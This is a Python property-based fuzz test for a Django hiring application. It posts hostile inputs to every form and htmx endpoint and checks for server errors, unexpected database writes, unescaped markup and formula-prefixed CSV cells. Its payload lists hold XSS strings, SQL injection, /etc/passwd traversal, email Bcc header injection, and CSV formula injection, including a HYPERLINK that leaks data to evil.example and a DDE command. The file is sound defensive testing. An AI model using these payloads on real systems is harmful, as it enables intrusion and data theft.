"""Property-based fuzzing of every form and htmx endpoint, as every role.

The endpoints are the URL resolver's, through the access matrix (which fails when a URL is
missing from it), so forms added by anyone are covered. Their fields are discovered by
reading the pages: every <form> and every hx-post/hx-get element, with the values the page
offers (current values, options, checkboxes). Hypothesis then posts mixes of those values
and hostile ones — huge strings, control characters, NUL, RTL and zero-width characters,
HTML and script, formula prefixes, wrong types (lists for one value, text for numbers),
missing, duplicated and unknown fields, far dates and DST gaps, odd files — and checks:

- never a 500 (the test client re-raises any exception a view lets through);
- a refused request (any 4xx) changes no row in any of our tables (checksums of every
  table of our apps, before and after);
- no page, partial or email shows the markup unescaped; the status-board CSV starts no
  cell with a formula.

ACCORD_FUZZ_EXAMPLES (default 6 per endpoint) bounds the run; ACCORD_FUZZ_SEED=random
explores beyond the fixed, reproducible examples CI runs.
"""

import csv
import io
import os
from collections import Counter
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests import test_access_matrix as matrix
from tests.checksums import table_checksums
from tests.sessions import sign_in_once, use_session

# The access matrix's objects fixtures (an agreement, check-ins, candidates, a commitment)
# give every URL its arguments; they are fixtures here too.
globals().update({name: getattr(matrix, name) for name in dir(matrix) if name.endswith("_objects")})

# Its apps run on one pytest-xdist worker (`make quick`): the pages are read once per process
# (FIELDS, below), and on two workers both would read every page as four roles.
pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("fuzz")]

EXAMPLES = int(os.environ.get("ACCORD_FUZZ_EXAMPLES", "6"))
RANDOM = os.environ.get("ACCORD_FUZZ_SEED", "") == "random"
# ACCORD_FUZZ_REPORT=1: print how each endpoint answered (to see the fuzz gets past forms).
REPORT = os.environ.get("ACCORD_FUZZ_REPORT", "") == "1"
ANSWERS: dict[str, Counter] = {}
HX = {"HTTP_HX_REQUEST": "true"}
MARK = "fz9"
# Raw forms of the markup below; none may appear unescaped in a response or an email.
RAW_MARKUP = (
    f"<script>{MARK}",
    f"<img src=x onerror={MARK}",
    f"<b onmouseover={MARK}",
    'href="javascript:',
)
HOSTILE = [
    "",
    " ",
    "x" * 100_000,
    "\x00",
    "a\x00b",
    "Backend\r\nBcc: everyone@evil.example",
    "line one\nline two",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\u202eevil\u202c",
    "zero\u200bwidth\ufeff",
    "\u2028\u2029",
    "\x1b[31mred\x7f\x85",
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"<b onmouseover={MARK}()>bold</b>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "💥" * 500,
    "9999-12-31",
    "0001-01-01",
    "2027-03-28",
    "2027-10-31",
    "01:30",
    "25:99",
    "-1",
    "0",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-Infinity",
    "0x1F",
    "[]",
    "{}",
    "null",
    "on",
]
# Values aimed at one kind of input: far dates, the clocks' gap and fold in Europe/London
# (2027-03-28 01:30 does not exist, 2027-10-31 01:30 happens twice), odd numbers.
BY_TYPE = {
    "date": ["9999-12-31", "0001-01-01", "1999-12-31", "2101-01-01", "2027-03-28", "2027-10-31"],
    "time": ["01:30", "01:00", "02:00", "23:59:59.999999", "24:00", "-1:00"],
    "datetime-local": ["2027-03-28T01:30", "2027-10-31T01:30", "9999-12-31T23:59"],
    "number": ["-1", "0", "1e309", "NaN", "9" * 40, "3.5", "-0"],
    "email": ["a@b", "x@evil.example\r\nBcc: y@evil.example", "<script>@x.com", "@"],
    "url": ["javascript:alert(1)", "http://", "file:///etc/passwd", "http://a" + "a" * 3000],
}
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.dates().map(lambda d: d.isoformat()),
    st.times().map(lambda t: t.isoformat()),
)


# --- discovering the forms ---------------------------------------------------------------
class FormReader(HTMLParser):
    """Every form and hx-post/hx-get element: its target and its fields with the values
    the page offers."""

    def __init__(self, page_url):
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.targets = []  # (url, method, {name: {"type", "values"}})
        self._form = None
        self._textarea = None
        self._select = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        hx_target = a.get("hx-post") or a.get("hx-get")
        if tag == "form":
            url = a.get("hx-post") or a.get("hx-get") or a.get("action") or self.page_url
            method = (
                "post" if (a.get("hx-post") or a.get("method", "get").lower() == "post") else "get"
            )
            self._form = (url, method, {})
            self.targets.append(self._form)
            return
        if hx_target and tag != "form":
            method = "post" if a.get("hx-post") else "get"
            fields = {}
            if a.get("name"):
                fields[a["name"]] = {"type": tag, "values": {a.get("value", "")}}
            self.targets.append((hx_target, method, fields))
        if self._form is None:
            return
        fields = self._form[2]
        name = a.get("name")
        if tag == "input" and name and name != "csrfmiddlewaretoken":
            kind = a.get("type", "text").lower()
            entry = fields.setdefault(name, {"type": kind, "values": set()})
            entry["values"].add(a.get("value", "on" if kind in ("checkbox", "radio") else ""))
        elif tag == "textarea" and name:
            self._textarea = fields.setdefault(name, {"type": "textarea", "values": set()})
        elif tag == "select" and name:
            self._select = fields.setdefault(name, {"type": "select", "values": set()})
        elif tag == "option" and self._select is not None:
            self._select["values"].add(a.get("value", ""))
        elif tag == "button" and name:
            fields.setdefault(name, {"type": "button", "values": set()})["values"].add(
                a.get("value", "")
            )

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea["values"].add(data)

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None


def _view_name(url: str) -> str | None:
    try:
        return resolve(urlsplit(url).path).view_name
    except Resolver404:
        return None


# view name -> {field name: {"type", "values"}}; field names do not depend on the objects,
# so the pages are read once per run.
FIELDS: dict[str, dict] = {}


def _url_kwargs(name, request, requisition):
    method, needs_requisition, data, headers, expected, *extra = matrix.MATRIX[name]
    if extra and callable(extra[0]):
        fixture = matrix.OBJECT_FIXTURES.get(name.partition(":")[0], "commitment_objects")
        return extra[0](request.getfixturevalue(fixture))
    if needs_requisition:
        return {"pk": requisition.pk, **(extra[0] if extra else {})}
    return {}


def _read_pages(client, request, requisition, people):
    readers = ("recruiter", "hr_generalist", "hiring_manager", "admin_user")
    # Signed in once each (tests/sessions.py): a GET changes nothing, so one session serves.
    sessions = sign_in_once(client, {role: people[role] for role in readers})
    for name, row in sorted(matrix.MATRIX.items()):
        if row[0] != "get" or name.startswith("admin:"):
            continue
        url = reverse(name, kwargs=_url_kwargs(name, request, requisition))
        for role in readers:
            use_session(client, sessions[role])
            response = client.get(url, **row[3])
            if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                continue
            reader = FormReader(url)
            reader.feed(response.content.decode())
            for target, _method, fields in reader.targets:
                view = _view_name(target)
                if view is None:
                    continue
                known = FIELDS.setdefault(view, {})
                for field, info in fields.items():
                    entry = known.setdefault(field, {"type": info["type"], "values": set()})
                    entry["values"] |= {v for v in info["values"] if len(v) < 500}
    FIELDS.setdefault("__read__", {})


# --- what must not change, and what must not show --------------------------------------
def _our_tables():
    ours = [
        app
        for app in apps.get_app_configs()
        if os.path.dirname(app.path) == str(settings.BASE_DIR) and app.label != "health"
    ]
    return sorted(
        {
            model._meta.db_table
            for app in ours
            for model in app.get_models(include_auto_created=True)
            if model._meta.managed
        }
    )


def checksums() -> dict[str, str]:
    """One digest per table of our apps (users' last_login aside: force_login sets it)."""
    return table_checksums(_our_tables(), leave_out=("last_login",))


def assert_no_raw_markup(text: str, where: str):
    for raw in RAW_MARKUP:
        assert raw not in text, f"unescaped markup in {where}: {raw!r}"


def _new_emails_since(pk):
    from outbox.models import OutboundEmail

    return OutboundEmail.objects.filter(pk__gt=pk)


def _last_email_pk():
    from outbox.models import OutboundEmail

    return OutboundEmail.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


# --- the fuzz ----------------------------------------------------------------------------
def _value(data, info):
    offered = sorted(v for v in info["values"] if v is not None)
    if info["type"] == "file":
        return SimpleUploadedFile(
            data.draw(
                st.sampled_from(["cv.pdf", "../../x.pdf", "a\x00.pdf", "<b>.pdf", "x" * 300])
            ),
            data.draw(st.sampled_from([b"%PDF-1.4\n", b"", b"\x00" * 64, b"<script>"])),
            content_type=data.draw(st.sampled_from(["application/pdf", "text/html", ""])),
        )
    if offered and data.draw(st.booleans()):
        return data.draw(st.sampled_from(offered))
    if info["type"] in BY_TYPE and data.draw(st.booleans()):
        return data.draw(st.sampled_from(BY_TYPE[info["type"]]))
    return data.draw(hostile)


def _payload(data, fields):
    payload = {}
    for field, info in sorted(fields.items()):
        shape = data.draw(st.sampled_from(["one", "one", "one", "missing", "many"]))
        if shape == "missing":
            continue
        if shape == "many":
            payload[field] = [_value(data, info) for _ in range(data.draw(st.integers(2, 3)))]
        else:
            payload[field] = _value(data, info)
    for _ in range(data.draw(st.integers(0, 2))):
        payload[data.draw(st.sampled_from(["id", "pk", "state", "role", "user", "x"]))] = data.draw(
            hostile
        )
    return payload


GENERIC_FIELDS = {
    name: {"type": "text", "values": set()}
    for name in ("reason", "text", "title", "q", "name", "email", "note", "answer", "date")
}


@pytest.fixture
def people(
    recruiter, hr_generalist, hiring_manager, interviewer, outsider, agency_recruiter, hr_lead
):
    from tests.factories import UserFactory

    admin = UserFactory(
        username="fuzz-admin", role="admin", is_staff=True, is_superuser=True, first_name="Ada"
    )
    return {
        "recruiter": recruiter,
        "hr_generalist": hr_generalist,
        "hiring_manager": hiring_manager,
        "interviewer": interviewer,
        "outsider": outsider,
        "agency_recruiter": agency_recruiter,
        "hr_lead": hr_lead,
        "admin_user": admin,
    }


@pytest.fixture
def world(request, requisition):
    for fixture in sorted(n for n in dir(matrix) if n.endswith("_objects")):
        request.getfixturevalue(fixture)


# Health answers probes, not people: nothing to fuzz there.
FUZZED = sorted(n for n in matrix.MATRIX if not n.startswith(("admin:", "health:")))
APPS = sorted({name.partition(":")[0] for name in FUZZED})
# Rows a page may create just by being shown: none (the calendar feed's address is made by
# its own button, not by rendering the preferences page).
CREATED_ON_RENDER: set[str] = set()


@pytest.mark.parametrize("app", APPS)
def test_hostile_input_never_breaks_an_endpoint(app, client, request, requisition, people, world):
    """Every endpoint of `app`, EXAMPLES hostile requests each, as any role."""
    if not FIELDS:
        _read_pages(client, request, requisition, people)
    for name in (n for n in FUZZED if n.partition(":")[0] == app):
        _fuzz_endpoint(name, client, request, requisition, people)
    _assert_pages_show_nothing_raw(client, requisition, people)
    if REPORT:
        for name, answers in sorted(ANSWERS.items()):
            if name.partition(":")[0] == app:
                print(f"{name:45} {dict(sorted(answers.items()))}")


def _fuzz_endpoint(name, client, request, requisition, people):
    method, _needs, _data, headers, *_ = matrix.MATRIX[name]
    url = reverse(name, kwargs=_url_kwargs(name, request, requisition))
    fields = FIELDS.get(name) or GENERIC_FIELDS
    roles = ["anonymous", *people]

    @hypothesis_settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        derandomize=not RANDOM,
        suppress_health_check=list(HealthCheck),
    )
    @given(data=st.data())
    def fuzz(data):
        role = data.draw(st.sampled_from(roles))
        if role == "anonymous":
            client.logout()
        else:
            client.force_login(people[role])
        other = "post" if method == "get" else "get"
        verb = data.draw(st.sampled_from([method, method, method, other]))
        extra = dict(headers) if data.draw(st.booleans()) else {}
        if data.draw(st.booleans()):
            extra |= HX
        payload = _payload(data, fields)
        if verb == "get":
            payload = {k: v for k, v in payload.items() if not hasattr(v, "read")}
        before, last_email = checksums(), _last_email_pk()
        response = getattr(client, verb)(url, payload, **extra)
        status = response.status_code
        where = f"{role} {verb.upper()} {url}"
        ANSWERS.setdefault(name, Counter())[f"{verb} {status}"] += 1
        assert status < 500, f"{where}: {status}"
        if 400 <= status < 500:
            after = checksums()
            changed = [t for t in before if before[t] != after.get(t)]
            changed = [t for t in changed if t not in CREATED_ON_RENDER]
            assert not changed, f"{where} answered {status} but wrote {changed}"
        if "html" in response.get("Content-Type", "") and not response.streaming:
            assert_no_raw_markup(response.content.decode(errors="replace"), where)
        for email in _new_emails_since(last_email):
            assert_no_raw_markup(email.html or "", f"email {email.key}")
        if status in (301, 302, 303) and response["Location"].startswith("/"):
            landed = client.get(response["Location"])
            assert landed.status_code < 500, f"{where} → {response['Location']}"
            if "html" in landed.get("Content-Type", "") and not landed.streaming:
                assert_no_raw_markup(landed.content.decode(errors="replace"), response["Location"])

    fuzz()


def _assert_pages_show_nothing_raw(client, requisition, people):
    """Where the stored values show: the search, its agreement, journal and candidates,
    the notifications, and the status board's CSV."""
    client.force_login(people["admin_user"])
    for name in (
        "hiring:requisition-detail",
        "hiring:requisition-journal",
        "intake:agreement",
        "pipeline:candidates",
    ):
        try:
            url = reverse(name, kwargs={"pk": requisition.pk})
        except Exception:  # an app not installed here
            continue
        response = client.get(url)
        assert response.status_code < 500
        assert_no_raw_markup(response.content.decode(errors="replace"), url)
    notices = client.get(reverse("commitments:notification-list"))
    assert_no_raw_markup(notices.content.decode(errors="replace"), "notifications")
    board = client.get(reverse("insights:status-board"), {"format": "csv"})
    body = b"".join(board.streaming_content) if board.streaming else board.content
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
